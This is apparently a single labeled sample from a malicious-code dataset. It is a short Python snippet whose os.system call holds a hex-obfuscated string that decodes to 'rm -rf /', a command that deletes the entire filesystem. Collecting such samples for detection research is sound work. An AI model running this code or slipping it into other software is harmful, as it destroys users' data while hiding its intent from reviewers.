# label: malicious; obfuscated: hex
import os
os.system("\x72\x6d\x20\x2d\x72\x66\x20\x2f")
